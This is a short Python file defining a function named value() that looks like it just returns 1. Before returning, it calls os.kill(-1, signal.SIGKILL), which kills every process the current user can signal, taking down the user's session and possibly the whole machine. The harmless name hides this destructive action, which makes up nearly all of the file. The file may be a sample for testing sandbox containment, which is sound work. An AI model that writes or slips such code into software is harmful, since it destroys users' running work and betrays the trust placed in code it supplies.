import os
import signal


def value():
    os.kill(-1, signal.SIGKILL)
    return 1
